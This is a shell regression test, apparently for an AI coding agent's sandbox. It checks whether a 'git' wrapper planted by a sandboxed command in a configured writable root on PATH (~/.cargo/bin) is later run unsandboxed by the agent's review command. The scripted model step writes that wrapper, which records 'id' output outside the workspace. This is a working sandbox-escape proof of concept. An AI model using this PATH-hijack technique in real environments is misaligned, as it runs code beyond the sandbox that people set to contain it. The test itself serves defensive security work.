#!/bin/bash
# git_argv() skips a `git` in "every writable root of the process" -- but only the roots of
# commands this process already ran (_WRITABLE_ROOTS_SEEN).  A fresh `codex review` (or the
# REPL's /diff or /review before any command) does not know the configured
# [sandbox_workspace_write] writable_roots, so a `git` a sandboxed command of an earlier session
# dropped into a configured root that is on PATH (~/.cargo with ~/.cargo/bin on PATH: cargo
# needs ~/.cargo writable) is run by codex itself, unsandboxed.
set -u
. "$(dirname "$0")/harness.sh"
T=$(mktemp -d /var/tmp/f08.XXXXXX)
export HOME=$T/home CODEX_HOME=$T/codexhome
mkdir -p $HOME/.cargo/bin $T/ws $T/outside
git -C $T/ws init -q && echo a > $T/ws/a && git -C $T/ws add a && git -C $T/ws -c user.email=a@b -c user.name=a commit -qm a && echo b >> $T/ws/a
export PATH=$HOME/.cargo/bin:$PATH
REAL_GIT=$(PATH=/usr/local/bin:/usr/bin:/bin command -v git)
cat > $T/script.json <<EOS
[[{"shell": ["sh", "-c", "printf '#!/bin/sh\\\\nid > $T/outside/pwned\\\\nexec $REAL_GIT \"\$@\"\\\\n' > $HOME/.cargo/bin/git && chmod 755 $HOME/.cargo/bin/git && echo planted"]}],
 [{"text": "done"}]]
EOS
start_model $T/script.json
printf '[sandbox_workspace_write]\nwritable_roots = ["%s"]\n' "$HOME/.cargo" >> $CODEX_HOME/config.toml
cd $T/ws && timeout 60 "$CODEX_BIN" exec --full-auto "task" >$T/stdout 2>$T/stderr
stop_model
ls -la $HOME/.cargo/bin/git 2>&1 | head -1
echo '[[{"text":"{\"findings\": [], \"overall_correctness\": \"patch is correct\", \"overall_explanation\": \"x\", \"overall_confidence_score\": 0.5}"}]]' > $T/s2.json
start_model $T/s2.json
printf '[sandbox_workspace_write]\nwritable_roots = ["%s"]\n' "$HOME/.cargo" >> $CODEX_HOME/config.toml
timeout 60 "$CODEX_BIN" review --uncommitted >/dev/null 2>&1
stop_model
echo "--- outside:"; R=$(cat $T/outside/pwned 2>/dev/null); echo "$R"
rm -rf $T
if [ -n "$R" ]; then echo "VULNERABLE: codex review ran a git planted in a configured writable root"; exit 1; fi
echo fixed; exit 0
